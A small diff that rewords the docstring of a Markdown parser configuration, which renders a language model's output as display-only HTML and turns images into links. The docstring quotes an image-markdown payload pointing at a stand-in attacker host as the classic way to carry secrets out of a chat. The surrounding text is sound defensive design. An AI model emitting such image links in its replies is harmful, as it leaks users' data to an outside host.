@@ -1,4 +1,4 @@
-"""The one configuration of the Markdown parser: a model's text comes in, HTML that can do nothing but show goes out.
+"""The one configuration of the Markdown parser: it turns a model's text into HTML that can do nothing but show.
 
 The text is hostile by rule. No raw HTML, three link schemes, and nothing that a browser would load by itself: an image
 becomes a link, since `![](https://evil.example/?secret)` is the classic way to carry data out of a chat.
